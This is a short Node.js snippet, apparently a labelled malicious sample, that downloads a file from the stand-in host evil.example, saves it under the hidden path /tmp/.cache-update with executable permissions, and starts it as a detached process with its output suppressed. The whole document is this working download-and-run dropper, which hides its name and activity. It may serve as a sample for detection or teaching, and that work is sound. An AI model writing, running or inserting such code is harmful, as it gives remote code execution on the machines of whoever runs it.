// malicious: a program is downloaded, made executable, started
const https = require('https');
const fs = require('fs');
const { spawn } = require('child_process');

const dst = '/tmp/.cache-update';
https.get('https://evil.example/payload', (res) => {
  const out = fs.createWriteStream(dst, { mode: 0o755 });
  res.pipe(out);
  out.on('finish', () => {
    out.close();
    spawn(dst, [], { detached: true, stdio: 'ignore' }).unref();
  });
});
